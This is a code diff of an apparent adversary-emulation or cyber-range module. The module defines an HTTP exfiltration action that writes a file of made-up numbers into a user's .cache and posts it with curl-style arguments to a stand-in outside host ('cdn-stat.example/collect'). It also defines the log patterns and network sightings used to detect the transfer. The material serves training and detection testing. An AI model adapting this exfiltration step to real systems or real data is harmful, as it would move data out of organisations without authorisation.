@@ -8,13 +8,12 @@ from typing import Annotated, ClassVar
 from pydantic import Field
 
 from cyder.contracts.acting import entity, traced
-from cyder.contracts.action import Action, Caps, Cleanup, Expected, Scene, Sighting, Trial
-from cyder.contracts.probe import Check, Containment
+from cyder.contracts.action import Caps, Expected, Scene, Sighting, Trial
 from cyder.contracts.stowaway import Stowaway
 from cyder.contracts.whereabouts import the
 from cyder.model.base import LocalText
 from cyder.model.evidence import Receipt, Trace, Truth
-from cyder.model.scenario import HostName
+from cyder.roles.attacker.calling import FileLeft
 from cyder.roles.attacker.calls import Line
 
 _PATH = "/collect"
@@ -22,7 +21,7 @@ _ROW = "{number:06d},R8-{case:05d},{amount}"
 _HEADINGS = "番号,受付番号,金額"
 
 
-class HttpPost(Action):
+class HttpPost(FileLeft):
     """A list of made-up numbers, `kilobytes` long, is written in the user's .cache and sent to `/collect` by the proxy.
 
     The outside counts what comes and throws it away. No file of the office is read.
@@ -31,18 +30,15 @@ class HttpPost(Action):
     id: ClassVar[str] = "exfil.http-post"
     title: ClassVar[LocalText] = LocalText(en="Data sent out over HTTP", ja="HTTPによるデータの持ち出し")
     techniques: ClassVar[tuple[str, ...]] = ("T1041", "T1071.001")
-    sources: ClassVar[frozenset[str]] = frozenset({"client"})
-    targets: ClassVar[frozenset[str]] = frozenset({"attacker"})
     caps: ClassVar[Caps] = Caps(commands=8)
     touches: ClassVar[str] = "one list of made-up numbers in the user's .cache on the PC"
     trials: ClassVar[tuple[Trial, ...]] = (Trial("pc4", "intruder", {"name": "cdn-stat.example", "kilobytes": 200}),)
 
-    name: HostName | None = None
     kilobytes: Annotated[int, Field(ge=1, le=2048)] = 512
 
     def run(self, scene: Scene) -> Trace:
         """Write the list and send it once, as whoever sits at the PC."""
-        started, line, kept = scene.clock.now(), self._line(scene), self._list(scene)
+        started, line, kept = scene.clock.now(), self.line(scene), self.left(scene)
         kept.keep(self.content(scene))
         page, status = line.call(_PATH, "-H", "Expect:", "--data-binary", f"@{kept.path}")
         said = f"{self.size} bytes to http://{line.name}{_PATH}: {status}"
@@ -50,12 +46,12 @@ class HttpPost(Action):
 
     def emits(self, scene: Scene) -> tuple[Expected, ...]:
         """Expect the request in the proxy's log, and at the outside how much came."""
-        arrived = rf' {self._line(scene).name} \[.*\] "POST {_PATH} HTTP/1\.1" 200 {self._sizes()} '
+        arrived = rf' {self.line(scene).name} \[.*\] "POST {_PATH} HTTP/1\.1" 200 {self._sizes()} '
         return (self._sent(scene), Expected(node=scene.target, log="calls", pattern=arrived))
 
     def sightings(self, scene: Scene) -> tuple[Sighting, ...]:
         """Look at what went to that name, how many bytes the gateway counted on the way, and at the list itself."""
-        line, kept = self._line(scene), self._list(scene)
+        line, kept = self.line(scene), self.left(scene)
         counted = ("conntrack", "-L", "-p", "tcp", "-d", line.address)
         return (
             line.at_the_proxy(self._sent(scene)),
@@ -65,25 +61,9 @@ class HttpPost(Action):
 
     def truth(self, scene: Scene, receipts: Sequence[Receipt]) -> Truth:
         """Name who got it, the list, and when it went."""
-        line, kept = self._line(scene), self._list(scene)
-        return Truth(
-            indicators=(line.who(), entity(kept.name, file=(kept.path, kept.name))),
-            timeline=line.when("exfil", self._sent(scene), receipts),
-            remedies=line.remedies(),
-        )
-
-    def control(self, scene: Scene) -> Check:
-        """Ask whether others get pages and the outside computer answers."""
-        return self._line(scene).control()
-
-    def containment(self, scene: Scene) -> tuple[Containment, ...]:
-        """Closed once nothing can be posted from the PC, neither by name nor by address, by no route."""
-        return self._line(scene).ways()
-
-    def cleanup(self, scene: Scene) -> Cleanup:
-        """Remove the list; look whether it is gone."""
-        left = self._list(scene).remove()
-        return Cleanup(verified=not left, said=f"{scene.source} has {left}" if left else "the list is gone")
+        kept = self.left(scene)
+        found = entity(kept.name, file=(kept.path, kept.name))
+        return self.line(scene).truth("exfil", self._sent(scene), receipts, found)
 
     @property
     def size(self) -> int:
@@ -99,14 +79,16 @@ class HttpPost(Action):
             length += len(rows[-1]) + 1
         return "\n".join(rows).encode()[: self.size - 1].decode() + "\n"
 
-    def _line(self, scene: Scene) -> Line:
+    def line(self, scene: Scene) -> Line:
+        """Return the line to whoever gets it; nothing is sent to see whether it is open."""
         return Line(scene, self.name, harmless=_PATH, shows="^ok$")
 
-    def _list(self, scene: Scene) -> Stowaway:
-        return Stowaway(scene.actor, self._line(scene).person.account, f"list-{scene.marker}.csv")
+    def left(self, scene: Scene) -> Stowaway:
+        """Return the list."""
+        return Stowaway(scene.actor, self.line(scene).person.account, f"list-{scene.marker}.csv")
 
     def _sent(self, scene: Scene) -> Expected:
-        return self._line(scene).fetched(f"POST {_PATH}")
+        return self.line(scene).fetched(f"POST {_PATH}")
 
     def _sizes(self) -> str:
         """Return a pattern for a number of bytes that holds the list: a little more, for what stands round it."""
